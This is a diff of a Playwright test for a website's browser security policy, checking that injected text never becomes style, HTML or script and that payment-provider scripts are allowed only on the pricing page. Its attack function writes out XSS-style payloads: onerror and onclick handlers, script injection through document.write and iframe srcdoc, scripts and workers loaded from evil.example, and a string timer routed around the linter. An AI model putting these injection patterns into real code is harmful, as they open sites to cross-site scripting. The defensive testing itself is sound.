@@ -4,7 +4,7 @@ import { builtSite } from '../tests/support/built-site';
 import { startSite, type SiteProcess } from '../tests/support/site-process';
 import { atFullCount } from '../tests/support/full-count';
 import { violationsIn } from './support/own-site';
-import { openRendered, takenOver } from './support/rendered';
+import { openRendered, hydrate } from './support/rendered';
 import { expect, test } from './support/test';
 
 let site: SiteProcess;
@@ -12,7 +12,7 @@ let metrics: () => Promise<string[]>;
 
 test.beforeAll(async () => {
   const port = await freePort();
-  // A real shop, so that its scripts are let in where somebody pays.
+  // With the settings of a real shop, so that the policy of Pricing allows FastSpring's scripts.
   site = await startSite({
     SITE_DIR: builtSite,
     METRICS_PORT: String(port),
@@ -23,11 +23,11 @@ test.beforeAll(async () => {
 });
 test.afterAll(() => site.stop());
 
-/** What somebody does who gets a text into a page, and whether the browser lets it. */
+/** Tries each way to turn a text into style, HTML or script. @returns the error of each, and what came of it */
 function attack() {
   const runs: string[] = [];
   Object.assign(window, { hit: (what: string) => runs.push(what) });
-  const refused = (act: () => void): string => {
+  const errorOf = (act: () => void): string => {
     try {
       act();
       return 'done';
@@ -44,20 +44,20 @@ function attack() {
   target.setAttribute('style', 'z-index: 7');
   const script = document.createElement('script');
   const sinks = {
-    innerHTML: refused(() => (target.innerHTML = '<img src="/x" onerror="hit(1)">')),
-    outerHTML: refused(() => (target.outerHTML = '<p id="target">x</p>')),
-    insertAdjacentHTML: refused(() => target.insertAdjacentHTML('beforeend', '<b>x</b>')),
-    write: refused(() => document.write('<script>hit(2)</script>')),
-    parse: refused(() => new DOMParser().parseFromString('<b>x</b>', 'text/html')),
-    frame: refused(() => (document.createElement('iframe').srcdoc = '<script>parent.hit(3)</script>')),
-    text: refused(() => (script.textContent = 'hit(4)')),
-    address: refused(() => (script.src = 'https://evil.example/x.js')),
-    file: refused(() => (script.src = '/user-files/x.js')),
-    handler: refused(() => target.setAttribute('onclick', 'hit(5)')),
-    // As a timer takes it: from a list of values, which no linter looks into.
-    timer: refused(() => Reflect.apply(setTimeout, window, ['hit(6)'])),
-    worker: refused(() => new Worker('https://evil.example/x.js')),
-    policy: refused(() =>
+    innerHTML: errorOf(() => (target.innerHTML = '<img src="/x" onerror="hit(1)">')),
+    outerHTML: errorOf(() => (target.outerHTML = '<p id="target">x</p>')),
+    insertAdjacentHTML: errorOf(() => target.insertAdjacentHTML('beforeend', '<b>x</b>')),
+    write: errorOf(() => document.write('<script>hit(2)</script>')),
+    parse: errorOf(() => new DOMParser().parseFromString('<b>x</b>', 'text/html')),
+    frame: errorOf(() => (document.createElement('iframe').srcdoc = '<script>parent.hit(3)</script>')),
+    text: errorOf(() => (script.textContent = 'hit(4)')),
+    address: errorOf(() => (script.src = 'https://evil.example/x.js')),
+    file: errorOf(() => (script.src = '/user-files/x.js')),
+    handler: errorOf(() => target.setAttribute('onclick', 'hit(5)')),
+    // By `Reflect.apply`, because the linter reports a direct call of a timer with a text.
+    timer: errorOf(() => Reflect.apply(setTimeout, window, ['hit(6)'])),
+    worker: errorOf(() => new Worker('https://evil.example/x.js')),
+    policy: errorOf(() =>
       (
         window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
       ).trustedTypes.createPolicy('evil', { createHTML: (text: string) => text }),
@@ -68,7 +68,7 @@ function attack() {
   return { runs, sinks, styles: { position, zIndex }, shown: target.childNodes.length };
 }
 
-const everythingRefused = {
+const everythingBlocked = {
   runs: [],
   sinks: {
     ...Object.fromEntries(
@@ -94,12 +94,12 @@ const countsIn = (lines: string[]): Record<string, number> =>
   );
 
 const pages: [what: string, open: (page: Page) => Promise<unknown>][] = [
-  ['a rendered page before its program', (page) => openRendered(page, `${site.url}/about?lang=en`)],
+  ['a page of the server before hydration', (page) => openRendered(page, `${site.url}/about?lang=en`)],
   [
-    'a rendered page with its program',
+    'a page of the server after hydration',
     async (page) => {
       await openRendered(page, `${site.url}/muscle-and-movement`);
-      await takenOver(page);
+      await hydrate(page);
     },
   ],
   ['a page that the browser renders', (page) => page.goto(`${site.url}/order`)],
@@ -107,7 +107,7 @@ const pages: [what: string, open: (page: Page) => Promise<unknown>][] = [
 ];
 
 for (const [index, [what, open]] of pages.entries()) {
-  // The first is the second, before its program has come.
+  // The second page was in the state of the first one before its hydration.
   test(
     `threat 69: on ${what} no text becomes style, HTML or script`,
     index === 0 ? atFullCount : {},
@@ -115,8 +115,8 @@ for (const [index, [what, open]] of pages.entries()) {
       const before = await metrics();
       await open(page);
       expect(await metrics()).toEqual(before);
-      expect(await page.evaluate(attack)).toEqual(everythingRefused);
-      // The proof that the run's own look at the reports would have noticed. All of them come before the next test counts.
+      expect(await page.evaluate(attack)).toEqual(everythingBlocked);
+      // Control: the metric that redaction.teardown.ts reads counts these violations. All arrive before the next test reads it.
       const was = countsIn(before);
       await expect
         .poll(async () =>
@@ -145,11 +145,11 @@ test('threat 69: scripts of payment providers run only in a document that was lo
     return (await loaded).headers()['content-security-policy'];
   };
   expect(await policyOf(() => page.goto(`${site.url}/about`))).not.toContain('onfastspring.com');
-  // From here on a link changes the page without a load.
-  await takenOver(page);
+  // After hydration, other links change the page without loading a document.
+  await hydrate(page);
   const pricing = await policyOf(() => page.getByRole('banner').getByRole('link', { name: 'Pricing' }).click());
   expect(pricing).toMatch(/script-src [^;]*onfastspring\.com/);
   await expect(page.getByRole('heading', { level: 1, name: 'Pricing' })).toBeVisible();
-  // Once is enough.
+  // The document itself was loaded from this address.
   expect(await page.evaluate(() => performance.getEntriesByType('navigation')[0]?.name)).toBe(`${site.url}/pricing`);
 });
